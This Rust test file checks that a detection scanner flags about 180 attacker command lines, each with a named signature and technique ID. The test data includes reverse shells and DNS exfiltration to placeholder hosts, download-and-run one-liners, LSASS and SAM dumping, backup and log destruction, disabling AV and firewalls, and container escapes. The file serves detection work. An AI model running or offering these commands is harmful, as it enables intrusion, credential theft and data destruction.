//! What each signature names, with its technique: one behaviour per pattern at least, in the
//! forms attackers and the public corpora write it.

use super::super::*;
use super::ids;

/// (text, the signature that must name it, a technique it must carry).
const CASES: &[(&str, &str, &str)] = &[
    (
        r"reg add HKCU\Software\Classes\ms-settings\shell\open\command /v DelegateExecute /f & fodhelper.exe",
        "uac-bypass",
        "T1548.002",
    ),
    ("eventvwr.exe", "auto-elevating-program", "T1548.002"),
    (
        r#""C:\Users\alice\Downloads\invoice_update.exe""#,
        "user-folder-execution",
        "T1204.002",
    ),
    (
        r"cmd /c start C:\Users\Public\svc.exe",
        "user-folder-execution",
        "T1204.002",
    ),
    (
        r"C:\Users\bob\AppData\Local\Temp\7zS1\setup.scr /s",
        "user-folder-execution",
        "T1204.002",
    ),
    (
        r"schtasks /create /tn u /tr %TEMP%\u.exe /sc onlogon",
        "user-folder-execution",
        "T1204.002",
    ),
    (
        r"C:\ProgramData\updater.exe -k",
        "user-folder-execution",
        "T1204.002",
    ),
    (
        "curl -fsSL http://x.sh | sudo bash",
        "download-pipe-shell",
        "T1105",
    ),
    (
        r"reg query HKCU\Software\Policies\Microsoft\Windows\Installer /v AlwaysInstallElevated",
        "registry-query",
        "T1012",
    ),
    (
        r#"Get-ItemProperty -Path "HKLM:\SOFTWARE\Microsoft\Windows NT\CurrentVersion\Winlogon""#,
        "registry-query",
        "T1012",
    ),
    (
        "New-PSDrive -PSProvider registry -Root HKEY_CLASSES_ROOT -Name HKCR",
        "registry-query",
        "T1012",
    ),
    (
        r"Get-ChildItem -Path Registry::HKEY_USERS -Recurse",
        "registry-query",
        "T1012",
    ),
    (
        r#"reg add "HKLM\SOFTWARE\Microsoft\Active Setup\Installed Components\{C9E9A340-D1F1-11D0-821E-444553540600}" /v StubPath /d "C:\Users\Public\a.exe" /f"#,
        "active-setup",
        "T1547.014",
    ),
    (
        r"reg add HKLM\System\CurrentControlSet\Control\BootVerificationProgram /v ImagePath /t REG_SZ /d C:\Users\Public\b.exe",
        "run-key",
        "T1547.001",
    ),
    (
        r#"reg add "HKCU\Software\Microsoft\Windows NT\CurrentVersion\Windows" /v Load /t REG_SZ /d C:\Users\Public\c.exe"#,
        "run-key",
        "T1547.001",
    ),
    (
        r#"Set-ItemProperty -Path "HKCU:\Software\Microsoft\Windows NT\CurrentVersion\Windows" -Name Run -Value C:\Users\Public\c.exe"#,
        "run-key",
        "T1547.001",
    ),
    (
        r"mavinject.exe 4242 /INJECTRUNNING C:\Users\Public\x.dll",
        "reflective-load",
        "T1055",
    ),
    (
        r"Get-Keystrokes -LogPath $env:TEMP\key.log",
        "keylogging",
        "T1056.001",
    ),
    (
        "sysadminctl -deleteUser alice",
        "account-access-removed",
        "T1531",
    ),
    (
        "dscl . -delete /Users/alice",
        "account-access-removed",
        "T1531",
    ),
    (
        "az ad user delete --id alice@corp.example",
        "account-access-removed",
        "T1531",
    ),
    (
        "Remove-ADUser -Identity alice -Confirm:$false",
        "account-access-removed",
        "T1531",
    ),
    ("net user alice /delete", "account-access-removed", "T1531"),
    ("net start > %temp%\\s.txt", "process-discovery", "T1007"),
    (
        "systemctl --type=service --state=running",
        "process-discovery",
        "T1007",
    ),
    (
        r"copy C:\Users\Public\a.exe %TEMP%\invoice.pdf.exe",
        "double-extension",
        "T1036.007",
    ),
    (
        "chmod +x /tmp/report.pdf.sh",
        "double-extension",
        "T1036.007",
    ),
    (
        "IEX (New-Object Net.WebClient).DownloadString('http://a/b')",
        "download-execute-powershell",
        "T1059.001",
    ),
    (
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "reverse-shell-devtcp",
        "T1059.004",
    ),
    (
        "php -r '$s=fsockopen(\"192.0.2.7\",443);passthru(\"/bin/sh -i <&3 >&3\");'",
        "reverse-shell-script",
        "T1059",
    ),
    (
        "php -r '$c=fsockopen(\"198.51.100.2\",8080);`sh <&3 >&3 2>&3`;'",
        "reverse-shell-script",
        "T1071",
    ),
    (
        "c,_:=net.Dial(\"tcp\",\"203.0.113.5:53\");cmd:=exec.Command(\"bash\");cmd.Stdin=c",
        "reverse-shell-script",
        "T1059",
    ),
    (
        "rcat connect -s bash 203.0.113.9 4444",
        "reverse-shell-netcat",
        "T1059",
    ),
    ("sudo log erase --all", "linux-logs-wiped", "T1070.002"),
    (
        "sudo srm /var/log/system.log",
        "linux-logs-wiped",
        "T1685.006",
    ),
    (
        "cat /dev/null > /var/mail/alice",
        "mailbox-cleared",
        "T1070.008",
    ),
    (
        "ln -sf /dev/null ~/.bash_history",
        "shell-history-wiped",
        "T1070.003",
    ),
    (
        "Set-PSReadLineOption -AddToHistoryHandler { return $false }",
        "shell-history-wiped",
        "T1690",
    ),
    (
        "msedge.exe --disable-gpu-sandbox --gpu-launcher=\"cmd /c calc.exe &&\"",
        "browser-launches-command",
        "T1218",
    ),
    (
        "regedit /E C:\\Windows\\Temp\\file.ext:regfile.reg HKEY_CURRENT_USER\\Key",
        "hidden-artifact",
        "T1564",
    ),
    (
        "$f = Get-Item $env:temp\\a.txt -Force; $f.attributes='Hidden'",
        "hidden-artifact",
        "T1564",
    ),
    (
        "cdb.exe -pd -pn notepad.exe\n.shell cmd /c calc.exe",
        "trusted-dev-utility",
        "T1127",
    ),
    (
        "rd /s /q %systemdrive%\\$RECYCLE.BIN",
        "indicator-removed",
        "T1070.004",
    ),
    ("sudo lsmod | grep -i vboxguest", "sandbox-evasion", "T1082"),
    // A virtual machine has no thermal sensors; a hypervisor names itself to sysctl.
    (
        "$t = Get-WmiObject -Query \"SELECT * FROM MSAcpi_ThermalZoneTemperature\" -ErrorAction SilentlyContinue\nif (-not $t) { echo 'Virtualization environment detected' }",
        "sandbox-evasion",
        "T1497",
    ),
    ("sysctl -n hw.hv_vendor", "sandbox-evasion", "T1497"),
    ("sysctl kern.hv_vmm_present", "sandbox-evasion", "T1497"),
    ("shutdown /r /t 0", "shutdown", "T1529"),
    // The kernel's magic keys: b reboots at once, o powers off, c crashes.
    ("echo b > /proc/sysrq-trigger", "shutdown", "T1529"),
    ("echo o | sudo tee /proc/sysrq-trigger", "shutdown", "T1529"),
    (
        "grep -i 'token' ~/.zsh_history > /tmp/t.txt",
        "credentials-in-history",
        "T1552.003",
    ),
    (
        "Get-Content (Get-PSReadLineOption).HistorySavePath | Select-String password",
        "credentials-in-history",
        "T1552.003",
    ),
    (
        "echo 'auth sufficient pam_permit.so' | sudo tee -a /etc/pam.d/sshd",
        "pam-modified",
        "T1556.003",
    ),
    (
        "sudo sed -i 's/^auth.*/auth sufficient pam_rootok.so/' /etc/pam.d/sudo",
        "pam-modified",
        "T1556.003",
    ),
    (
        "assoc .pdf=exefile",
        "file-association-changed",
        "T1546.001",
    ),
    (
        "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\temp\\lsass.dmp full",
        "lsass-dump",
        "T1003.001",
    ),
    (
        "reg save HKLM\\SAM C:\\t\\sam",
        "sam-hive-dump",
        "T1003.002",
    ),
    (
        "vssadmin delete shadows /all /quiet",
        "recovery-inhibited",
        "T1490",
    ),
    (
        "schtasks /create /tn x /tr c:\\x.exe /sc onlogon",
        "scheduled-task",
        "T1053.005",
    ),
    ("wevtutil cl Security", "log-cleared", "T1070.001"),
    (
        "Set-MpPreference -DisableRealtimeMonitoring $true",
        "av-disabled",
        "T1685",
    ),
    (
        "echo 'ssh-rsa AAA' >> ~/.ssh/authorized_keys",
        "ssh-key-added",
        "T1098.004",
    ),
    ("Set-MpPreference -dioavp 1", "av-disabled", "T1562.001"),
    (
        "mdatp config behavior-monitoring --value disabled",
        "av-disabled",
        "T1685",
    ),
    (
        "dism.exe /online /disable-feature /featurename:Windows-Defender-ApplicationGuard",
        "av-disabled",
        "T1685",
    ),
    ("taskkill /f /im SophosHealth.exe", "av-disabled", "T1685"),
    (
        "sudo iptables -P INPUT ACCEPT",
        "firewall-disabled",
        "T1686",
    ),
    ("ufw logging off", "firewall-disabled", "T1562.004"),
    (
        "New-NetFirewallRule -DisplayName x -Direction Outbound -Action Allow",
        "firewall-rule-changed",
        "T1686",
    ),
    (
        "iptables -I INPUT -p tcp --dport 4444 -j ACCEPT",
        "firewall-rule-changed",
        "T1686",
    ),
    ("sudo iptables -S", "firewall-discovery", "T1518.001"),
    (
        "dd if=/dev/zero of=/var/log/auth.log bs=1k count=64",
        "linux-logs-wiped",
        "T1070.002",
    ),
    (
        "truncate -s 0 /var/lib/docker/containers/abc/abc-json.log",
        "linux-logs-wiped",
        "T1070.002",
    ),
    (
        "echo 0 | sudo tee /proc/sys/kernel/randomize_va_space; sysctl kernel.yama.ptrace_scope=0",
        "exploit-mitigation-disabled",
        "T1562.001",
    ),
    (
        "bcdedit /set {current} nx AlwaysOff",
        "exploit-mitigation-disabled",
        "T1685",
    ),
    (
        "xattr -r -d com.apple.quarantine ~/Downloads/tool.app",
        "gatekeeper-bypass",
        "T1553.001",
    ),
    (
        "aws cloudtrail stop-logging --name management-events",
        "cloud-defences-impaired",
        "T1562.008",
    ),
    (
        "gcloud logging sinks delete audit-sink --quiet",
        "cloud-defences-impaired",
        "T1562.008",
    ),
    (
        "nslookup `whoami | xxd -p`.exfil.example.net",
        "dns-exfiltration",
        "T1048.003",
    ),
    (
        "for c in $(cat secrets | base32); do dig +short $(echo $c).t.example.org; done",
        "dns-exfiltration",
        "T1071.004",
    ),
    (
        "ps -ef | grep -E 'filebeat|wazuh-agent'",
        "security-software-discovery",
        "T1518.001",
    ),
    ("pkill -SIGTERM ^cron$", "service-stopped", "T1489"),
    ("capsh --gid=0 --uid=0 --", "setuid-abuse", "T1548.001"),
    (
        "New-LocalUser -Name svc_backup -NoPassword -AccountNeverExpires",
        "account-without-password",
        "T1136.001",
    ),
    ("sudo passwd -d guest", "account-without-password", "T1098"),
    ("Set-MpPreference -drtm $true", "av-disabled", "T1685"),
    ("ufw --force disable", "firewall-disabled", "T1686"),
    ("sudo iptables -vnL", "firewall-discovery", "T1518.001"),
    (
        "systemctl disable --now auditd",
        "security-service-stopped",
        "T1685",
    ),
    (
        "echo 127.0.0.1 winatp-gw-eus.microsoft.com >> C:\\Windows\\System32\\drivers\\etc\\hosts",
        "security-telemetry-blocked",
        "T1562.001",
    ),
    (
        "aws --region us-east-1 cloudtrail stop-logging --name trail",
        "cloud-defences-impaired",
        "T1562.008",
    ),
    (
        "gcc /tmp/.x.c -o /tmp/.x && /tmp/.x",
        "compile-after-delivery",
        "T1027.004",
    ),
    (
        "cp evil.plist ~/Library/LaunchAgents/com.apple.update.plist",
        "launchd-persistence",
        "T1543.001",
    ),
    (
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\WMI\\Autologger\\EventLog-System /v Start /t REG_DWORD /d 0 /f",
        "logging-disabled",
        "T1562.002",
    ),
    (
        "Set-ItemProperty 'HKLM:\\SOFTWARE\\Policies\\Microsoft\\Windows Defender\\Spynet' -Name SubmitSamplesConsent -Value 2",
        "av-disabled",
        "T1685",
    ),
    (
        "sudo systemctl stop systemd-journald",
        "security-service-stopped",
        "T1685",
    ),
    (
        "sudo launchctl bootout system /Library/LaunchDaemons/com.sentinelone.sentineld.plist",
        "security-service-stopped",
        "T1562.001",
    ),
    (
        "echo '*.* /dev/null' >> /etc/rsyslog.d/00-quiet.conf",
        "logging-config-changed",
        "T1562.006",
    ),
    (
        "Add-DnsClientNrptRule -Namespace '.sentinelone.net' -NameServers 0.0.0.0",
        "security-telemetry-blocked",
        "T1685",
    ),
    (
        "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v RunAsPPL /t REG_DWORD /d 0 /f",
        "exploit-mitigation-disabled",
        "T1562.001",
    ),
    ("chage -l deploy", "password-policy-discovery", "T1201"),
    (
        "Get-ADDefaultDomainPasswordPolicy",
        "password-policy-discovery",
        "T1201",
    ),
    (
        "Get-WinSystemLocale; Get-WinUserLanguageList",
        "locale-discovery",
        "T1614",
    ),
    (
        "aws ec2 modify-snapshot-attribute --snapshot-id snap-1 --attribute createVolumePermission --operation-type add --user-ids 111122223333",
        "cloud-compute-modified",
        "T1578",
    ),
    (
        "aws s3 rb s3://backups-prod --force",
        "data-destroyed",
        "T1485",
    ),
    (
        "gcc /tmp/x.c -o /tmp/x; gcc -w k.c && ./a.out",
        "compile-after-delivery",
        "T1027.004",
    ),
    (
        "powershell.exe -v 2 -nop -c \"Get-Process\"",
        "powershell-downgrade",
        "T1562.010",
    ),
    (
        "esentutl.exe /y /vss %SystemRoot%/system32/config/SAM /d %temp%/SAM",
        "sam-hive-dump",
        "T1003.002",
    ),
    ("chmod u+s /bin/bash", "setuid-shell", "T1548.001"),
    (
        "sudo chmod 4755 /usr/bin/python3",
        "setuid-shell",
        "T1548.001",
    ),
    (
        "cp /bin/sh /tmp/.x && chmod +s /tmp/.x && /tmp/.x -p",
        "setuid-shell",
        "T1548.001",
    ),
    (
        "sudo install -m =xs $(which bash) .",
        "setuid-shell",
        "T1548.001",
    ),
    ("dump64.exe 612 out.dmp", "process-dump", "T1003.001"),
    (
        "TTTracer.exe -dumpFull -attach 612",
        "process-dump",
        "T1003.001",
    ),
    (
        "createdump.exe -u -f d.dmp 612",
        "process-dump",
        "T1003.001",
    ),
    (
        "rpcping -s 10.0.0.35 -e 9997 /a connect /u NTLM",
        "forced-authentication",
        "T1187",
    ),
    (
        r"dir \\attacker-host@80\share",
        "forced-authentication",
        "T1187",
    ),
    (
        "aws iam create-access-key --user-name backup-svc",
        "cloud-account-created",
        "T1098.001",
    ),
    (
        "az ad sp create --id 00000000-0000-0000-0000-000000000000",
        "cloud-account-created",
        "T1136.003",
    ),
    (
        "gcloud iam service-accounts keys create key.json --iam-account=svc@p.iam.gserviceaccount.com",
        "cloud-account-created",
        "T1098.001",
    ),
    (
        r"New-WebGlobalModule -Name Mod -Image C:\Windows\Temp\mod.dll",
        "iis-module",
        "T1505.004",
    ),
    (
        r"%windir%\system32\inetsrv\appcmd.exe install module /name:Mod /image:C:\t\m.dll",
        "iis-module",
        "T1505.004",
    ),
    (
        "code.exe tunnel --accept-server-license-terms --name t1",
        "ide-tunnel",
        "T1219.001",
    ),
    (
        "devtunnel host -p 3389 --allow-anonymous",
        "ide-tunnel",
        "T1572",
    ),
    ("driverquery /v /fo list", "driver-discovery", "T1652"),
    ("kextstat", "driver-discovery", "T1652"),
    (
        "w32tm /stripchart /computer:localhost /samples:2",
        "time-discovery",
        "T1124",
    ),
    ("net time \\\\dc01", "time-discovery", "T1124"),
    (
        "docker run -v /:/mnt --rm -it alpine chroot /mnt /bin/sh",
        "container-escape",
        "T1611",
    ),
    (
        "docker run --rm -it --privileged -u root alpine\nmount /dev/sda1 /mnt/\nchroot /mnt /bin/bash",
        "container-escape",
        "T1611",
    ),
    (
        "nsenter -t 1 -m -u -i -n -p -- /bin/bash",
        "container-escape",
        "T1611",
    ),
    (
        r#"kubectl run x --rm -ti --image alpine --overrides '{"spec":{"hostPID":true,"containers":[{"name":"x","image":"alpine","command":["nsenter","--mount=/proc/1/ns/mnt","--","/bin/sh"]}]}}'"#,
        "container-escape",
        "T1611",
    ),
    (
        "docker run -it -v /var/run/docker.sock:/var/run/docker.sock docker:cli sh",
        "host-mounted-in-container",
        "T1611",
    ),
    (
        "tar czpf - /Users/* | openssl des3 -salt -pass x | ssh u@203.0.113.9 'cat > /tmp/u.enc'",
        "exfiltration",
        "T1048",
    ),
    (
        r#"ssh target.example.com "(cd /etc && tar -zcvf - *)" > ./etc.tar.gz"#,
        "exfiltration",
        "T1048",
    ),
    (
        r#"$t = "$env:TEMP\calc" + [char]0x200D + ".exe"; Copy-Item C:\Windows\System32\calc.exe $t; Start-Process $t"#,
        "invisible-characters",
        "T1027.018",
    ),
    (
        r#"$s = "76492d1116743f0423413b16050a5345MgB8AGkASwA0AHMA" | ConvertTo-SecureString -Key $k"#,
        "encrypted-powershell-payload",
        "T1027.013",
    ),
    (
        "$p = Get-Content p.txt | ConvertTo-SecureString -Key (1..16)\n$c = [Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($p))\niex $c",
        "encrypted-powershell-payload",
        "T1027.013",
    ),
    (
        r#"Resolve-DnsName -type "TXT" "beacon-$(Get-Random).example.net" -QuickTimeout"#,
        "dns-exfiltration",
        "T1048.003",
    ),
    ("gpresult /z", "group-policy-discovery", "T1615"),
    (
        "Get-GPO -Domain corp.example -All >> gpo.txt",
        "group-policy-discovery",
        "T1615",
    ),
    // Backups and restore points taken away before encryption.
    (
        r#""delete shadows all" | diskshadow.exe"#,
        "recovery-inhibited",
        "T1490",
    ),
    (
        r"del /s /f /q c:\*.VHD c:\*.bac c:\*.bak c:\*.wbcat c:\*.bkf c:\Backup*.*",
        "recovery-inhibited",
        "T1490",
    ),
    (
        r#"schtasks.exe /Change /TN "\Microsoft\Windows\SystemRestore\SR" /disable"#,
        "recovery-inhibited",
        "T1490",
    ),
    (
        r#"Disable-ComputerRestore -Drive "C:\""#,
        "recovery-inhibited",
        "T1490",
    ),
    (
        r"reg add HKLM\SOFTWARE\Policies\Microsoft\Windows NT\SystemRestore /v DisableSR /t REG_DWORD /d 1 /f",
        "recovery-inhibited",
        "T1490",
    ),
    // Permissions opened, system files taken over, remote links followed.
    (
        r#"icacls "C:\Users\Public\*" /grant Everyone:F /T /C /Q"#,
        "permissions-opened",
        "T1222.001",
    ),
    (
        r"icacls D:\shares\finance /grant *S-1-1-0:(OI)(CI)F",
        "permissions-opened",
        "T1222.001",
    ),
    (
        r"cacls C:\data /e /g everyone:f",
        "permissions-opened",
        "T1222.001",
    ),
    (
        r"takeown /F %windir%\System32\sethc.exe /A",
        "permissions-opened",
        "T1222.001",
    ),
    (
        "fsutil behavior set SymlinkEvaluation R2L:1\nfsutil behavior set SymlinkEvaluation R2R:1",
        "permissions-opened",
        "T1222.001",
    ),
    (
        r#"reg add "HKLM\SYSTEM\CurrentControlSet\Control\FileSystem" /v SymlinkRemoteToLocalEvaluation /t REG_DWORD /d "1" /f"#,
        "permissions-opened",
        "T1222.001",
    ),
    // Secrets through a cluster's API, and the tools that read stored passwords or steal
    // tokens.
    (
        "kubectl get secrets --all-namespaces -o yaml",
        "container-secrets",
        "T1552.007",
    ),
    (
        "kubectl exec app-7d9 -- cat /run/secrets/kubernetes.io/serviceaccount/token",
        "container-secrets",
        "T1552.007",
    ),
    (
        r"C:\Tools\WebBrowserPassView.exe /stext out.txt",
        "credential-tool",
        "T1555",
    ),
    (
        r#"Start-Process .\BadPotato.exe "cmd /c whoami""#,
        "token-abuse",
        "T1134",
    ),
    (r#"NSudoLG.exe -U:T -P:E cmd"#, "token-abuse", "T1134"),
    (
        r#"incognito.exe execute -c "CORP\\svc-backup" cmd.exe"#,
        "token-abuse",
        "T1134",
    ),
    (
        "impersonate_token CORP\\\\Administrator",
        "token-abuse",
        "T1134",
    ),
    (
        "finger user@example.host.com | more +2 | cmd",
        "finger-download",
        "T1105",
    ),
    (
        "kubectl get -n kube-system secret bootstrap-token -o yaml",
        "container-secrets",
        "T1552.007",
    ),
    ("kubectl get secrets -A", "container-secrets", "T1552.007"),
    (
        "curl -sk -H \"Authorization: Bearer $T\" https://10.96.0.1/api/v1/namespaces/default/secrets",
        "container-secrets",
        "T1552.007",
    ),
    (
        r"certreq.exe -Post -config https://203.0.113.7/ c:\windows\win.ini out.txt",
        "lolbin-download",
        "T1105",
    ),
    (
        r"C:\Windows\System32\IME\SHARED\IMEWDBLD.exe https://203.0.113.7/a.zip",
        "lolbin-download",
        "T1105",
    ),
    (
        r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge_proxy.exe" https://203.0.113.7/file.zip"#,
        "lolbin-download",
        "T1105",
    ),
    (
        r#"GUP.exe -unzipTo "" "C:\Temp" "Sample https://203.0.113.7/download/s.zip""#,
        "lolbin-download",
        "T1105",
    ),
    (
        "nscurl -k https://203.0.113.7/x -o /tmp/x",
        "lolbin-download",
        "T1105",
    ),
    (
        r#"$acl.SetAccessRule((New-Object System.Security.AccessControl.FileSystemAccessRule("Everyone","FullControl","Allow")))"#,
        "permissions-opened",
        "T1222.001",
    ),
    (
        r"echo delete shadows all > s.txt & diskshadow /s s.txt",
        "recovery-inhibited",
        "T1490",
    ),
    (
        r"rd /s /q C:\WindowsImageBackup",
        "recovery-inhibited",
        "T1490",
    ),
    // A shell or script host under the name of another Windows program, or copied into a
    // temporary folder.
    (
        r"copy C:\Windows\System32\cmd.exe C:\lsm.exe",
        "masquerading",
        "T1036",
    ),
    (
        r"copy %windir%\System32\windowspowershell\v1.0\powershell.exe %APPDATA%\taskhostw.exe /Y",
        "masquerading",
        "T1036",
    ),
    ("cp /bin/sh /tmp/crond", "masquerading", "T1036"),
];

#[test]
fn behaviour_is_recognised_with_its_technique() {
    let s = Signatures::new();
    for (text, id, technique) in CASES {
        let hits = s.scan([*text]);
        let hit = hits
            .iter()
            .find(|h| h.id == *id)
            .unwrap_or_else(|| panic!("{id} not in {:?} for {text}", ids(&hits)));
        assert!(hit.attack.contains(technique), "{id}");
        assert!(!hit.evidence.is_empty());
    }
}
